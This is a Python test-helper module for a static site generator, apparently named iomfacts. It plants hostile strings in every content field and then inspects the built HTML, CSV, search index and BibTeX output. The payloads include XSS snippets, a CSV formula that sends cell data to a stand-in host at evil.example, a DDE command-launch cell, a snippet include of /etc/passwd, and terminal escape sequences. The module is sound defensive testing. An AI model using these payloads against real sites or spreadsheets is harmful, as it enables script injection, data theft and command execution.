"""Hostile text for every string field of the content model: the payloads, the field walker,
and the inspection of what a build made of them. Used by tests/test_hostile_payloads.py.

The matrix grows by adding a payload to `PAYLOADS` (text the site must show as typed) or to
`REFUSED_PAYLOADS` (text the checks must refuse with a located, escaped message); a field is
covered as soon as it exists in `iomfacts/model.py`, because fields are found by walking the
models, not listed by hand.
"""

from __future__ import annotations

import csv
import re
import io
import json
import types
import typing
from dataclasses import dataclass
from pathlib import Path

from bs4 import BeautifulSoup
from hypothesis import strategies as st
from pydantic import BaseModel, BeforeValidator

from iomfacts import model

# Each at most 40 characters: the shortest text fields (units, short names, glossary terms)
# must be able to hold any one of them.
PAYLOADS = [
    '<script>alert("p0")</script>',
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(2)" x="',
    "' autofocus onfocus='alert(3)",
    "</title><script>alert(4)</script>",
    "[a](javascript:alert(5))",
    '<a href="javascript:alert(6)">a</a>',
    "![i](https://evil.example/i.png)",
    "<https://evil.example/> www.evil.example",
    "{{ 7*7 }} {% raw %} {# c #}",
    '{: onclick="alert(8)" } {: #main }',
    '<div markdown="1">**md**</div>',
    '!!! danger "Admonition"',
    '--8<-- "/etc/passwd" :smile: ==mark==',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+1 -2 @SUM(A1)",
    "@cmd|' /C calc'!A0",
    "\t=1+2 starts with a tab",
    "*em* __strong__ `code` | pipe | \\",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "right\u202eto left\u2066 zero\u200bwidth",
    "Kyiv \u041a\u0438\u0435\u0432 \u03ba\u03cc\u03c3\u03bc\u03bf\u03c2 \u0645\u0631\u062d\u0628\u0627",
]

# Control characters never reach a page: the YAML reader refuses them. What matters is how the
# refusal is printed: escaped, on one line, so it cannot move the cursor or forge a line.
REFUSED_PAYLOADS = [
    "\x1b[2J\x1b[31mred",
    "forged\nfile.yml:1:1: fake problem (fix)",
    "bell\x07 and backspace\x08",
    "\x9bC1 control",
]

# Hostile text in fields that only take identifiers, codes or references.
IDENTIFIER_PAYLOAD = "x<img src=x onerror=alert(1)>\u202e\u200b"

# Fields with a format of their own: refused unless they match it.
FORMAT_FIELDS = {(model.Source, "date"), (model.Source, "url")}

FRAGMENTS = PAYLOADS + ["<", ">", "&", '"', "'", "`", "[", "]", "(", ")", "{", "}", "|", "*", "_", "#", "!",
                        "\\", "=", "+", "-", "@", ":", "javascript:", "on", "\u202e", "\u200b", "\u00a0",
                        "{{", "}}", "{%", "%}", "<!--", "-->", "]]>", "&#", ";", "\t"]
# Strings made of the pieces that mean something to HTML, Markdown, Jinja, CSV or a terminal.
hostile_text = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=4), min_size=1, max_size=5) \
    .map("".join).filter(lambda text: text.strip() and len(text) <= 40)

ACTIVE_TAGS = {"script", "iframe", "img", "object", "embed", "form", "base", "meta", "link", "style", "svg",
               "math", "video", "audio", "source", "input", "button", "textarea", "select"}


@dataclass(frozen=True)
class Field:
    """A string field of a model, and every place in one file's data where it occurs."""

    owner: type
    name: str
    kind: str  # "text", "identifier" or "format"


def _unwrap(annotation):
    """(base type, metadata) through `X | None` and `Annotated[...]`."""
    metadata: list = []
    while True:
        if isinstance(annotation, types.UnionType) or typing.get_origin(annotation) is typing.Union:
            options = [arg for arg in typing.get_args(annotation) if arg is not type(None)]
            annotation = options[0]
        elif typing.get_origin(annotation) is typing.Annotated:
            annotation, *more = typing.get_args(annotation)
            metadata.extend(more)
        else:
            return annotation, metadata


def _is_identifier(metadata) -> bool:
    for item in metadata:
        if isinstance(item, BeforeValidator) and item.func is model._plain_ascii:
            return True
        if getattr(item, "pattern", None) or any(getattr(m, "pattern", None) for m in getattr(item, "metadata", [])):
            return True
    return False


def _field_kind(owner, name, annotation, metadata) -> str | None:
    base, more = _unwrap(annotation)
    if base is not str:
        return None
    if (owner, name) in FORMAT_FIELDS:
        return "format"
    return "identifier" if _is_identifier(list(metadata) + more) else "text"


def string_places(data, model_class, path=()):
    """(Field, path) for every string field of `model_class` in `data`, including optional text
    fields the data leaves out (they are planted too). Dict keys are checked by the YAML reader."""
    if not isinstance(data, dict):
        return
    for name, info in model_class.model_fields.items():
        base, metadata = _unwrap(info.annotation)
        metadata = list(info.metadata) + metadata
        kind = _field_kind(model_class, name, info.annotation, info.metadata)
        if kind:
            if name in data or kind == "text":
                yield Field(model_class, name, kind), path + (name,)
        elif typing.get_origin(base) is list:
            [item] = typing.get_args(base)
            item_base, item_metadata = _unwrap(item)
            item_kind = _field_kind(model_class, name, item, [])
            for index, value in enumerate(data.get(name) or []):
                if item_kind:
                    yield Field(model_class, name, item_kind), path + (name, index)
                elif isinstance(item_base, type) and issubclass(item_base, BaseModel):
                    yield from string_places(value, item_base, path + (name, index))
        elif isinstance(base, type) and issubclass(base, BaseModel) and name in data:
            yield from string_places(data[name], base, path + (name,))


def all_string_fields() -> set[tuple[type, str]]:
    """Every (model, field) pair of the content model that holds text, by introspection."""
    found: set[tuple[type, str]] = set()

    def visit(model_class, seen):
        if model_class in seen:
            return
        seen.add(model_class)
        for name, info in model_class.model_fields.items():
            base, _ = _unwrap(info.annotation)
            if _field_kind(model_class, name, info.annotation, info.metadata):
                found.add((model_class, name))
            elif typing.get_origin(base) is list:
                [item] = typing.get_args(base)
                item_base, _ = _unwrap(item)
                if _field_kind(model_class, name, item, []):
                    found.add((model_class, name))
                elif isinstance(item_base, type) and issubclass(item_base, BaseModel):
                    visit(item_base, seen)
            elif isinstance(base, type) and issubclass(base, BaseModel):
                visit(base, seen)

    seen: set = set()
    for file_model in model.FILE_MODELS.values():
        visit(file_model, seen)
    return found


def get(data, path):
    for part in path:
        data = data[part]
    return data


def put(data, path, value):
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


# --- what a build made of it -------------------------------------------------------------

def live_markup(html: str | BeautifulSoup) -> list[str]:
    """Elements and attributes in an HTML page or fragment that would run or load something."""
    soup = html if isinstance(html, BeautifulSoup) else BeautifulSoup(html, "html.parser")
    found = []
    ours = {id(e) for svg in soup.find_all("svg") if is_our_chart(svg) for e in [svg, *svg.find_all(True)]}
    for element in soup.find_all(True):
        if element.name in ACTIVE_TAGS and id(element) not in ours:
            found.append(f"<{element.name} {element.get('src') or element.get('href') or ''}>".strip())
        for attribute, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else (value or "")
            if attribute.lower().startswith("on") or attribute.lower() in ("autofocus", "formaction", "srcdoc"):
                found.append(f"{element.name}[{attribute}]")
            if attribute.lower() in ("href", "src", "action", "data", "xlink:href") and \
                    "".join(value.split()).lower().startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{element.name}[{attribute}={value[:30]}]")
    return found


CHART_TAGS = {"svg", "title", "g", "path", "rect", "line", "text", "a", "circle"}


def is_our_chart(svg) -> bool:
    """A chart of iomfacts/charts.py: <svg class="chart" aria-hidden="true"> made only of
    drawing elements, whose links are anchors on the page out of the tab order, with no script,
    foreignObject, style or on* attribute. Any other svg stays live markup."""
    if svg.name != "svg" or "chart" not in (svg.get("class") or []) or svg.get("aria-hidden") != "true":
        return False
    for element in [svg, *svg.find_all(True)]:
        if element.name not in CHART_TAGS:
            return False
        for attribute in element.attrs:
            if attribute.lower().startswith("on") or attribute.lower() in ("xlink:href", "src"):
                return False
        if element.name == "a" and not ((element.get("href") or "").startswith("#")
                                        and element.get("tabindex") == "-1"):
            return False
    return True


def csv_formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula: starting with = + - @ tab or CR, and not a number."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def search_entries(site: Path) -> list[dict]:
    return json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]


def bibtex_fields_closed(entry: str) -> bool:
    """Every field of a BibTeX entry written by citations.bibtex is one line whose braces,
    ignoring escaped ones, balance: text from content cannot end a field or start another."""
    body = entry.strip().splitlines()[1:-1]
    for line in body:
        unescaped = re.sub(r"\\.", "", line)
        depth = 0
        for character in unescaped:
            depth += {"{": 1, "}": -1}.get(character, 0)
            if depth < 0:
                return False
        if depth != 0:
            return False
    return True
